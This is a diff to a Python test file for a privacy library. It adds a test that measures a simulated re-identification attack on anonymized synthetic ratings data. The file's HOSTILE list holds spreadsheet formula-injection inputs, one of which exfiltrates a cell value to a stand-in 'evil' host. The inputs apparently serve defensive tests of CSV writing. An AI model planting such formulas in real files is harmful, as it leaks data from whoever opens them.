@@ -9,7 +9,10 @@ import numpy as np
 import pytest
 
 from error_assertions import raises
+from recveil.attacks import Adversary, AttackTarget, attack_release
 from recveil.auditing import Risk, read_risk, write_risk
+from recveil.datasets import make_ratings
+from recveil.methods import PredictiveAnonymizer
 
 HOSTILE = ['=HYPERLINK("http://evil/?"&A1)', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=1", "ann"]
 
@@ -84,3 +87,24 @@ def test_what_is_no_such_file_is_refused(tmp_path, content):
     with raises("input.damaged") as caught:
         read_risk(tmp_path / "risk.csv")
     assert "risk.csv" in str(caught.value)
+
+
+def test_the_groups_of_a_release_sum_to_all_targets():
+    ratings = make_ratings(n_users=120, n_items=60, n_ratings=3_000, seed=1)
+    release = PredictiveAnonymizer(k=5, homogenize="simple", seed=1).anonymize(ratings)
+    table = AttackTarget.from_release(release, ratings)
+    found = attack_release(ratings, table, Adversary(known=8), np.arange(120))
+    groups = found.by_user_count
+    assert [group.name for group in groups] == [
+        "newcomers",
+        "second quarter",
+        "third quarter",
+        "heavy users",
+    ]
+    assert sum(group.figure.trials for group in groups) == 120
+    hits = sum(group.figure.rate * group.figure.trials for group in groups)
+    assert hits == pytest.approx(found.reidentified.rate * 120)
+    # A newcomer with fewer than eight ratings is skipped, and counts as not re-identified.
+    fewest = ratings.activity[ratings.activity <= groups[0].highest]
+    assert groups[0].figure.trials == fewest.size
+    assert groups[0].figure.rate <= (fewest >= 8).mean() / 5
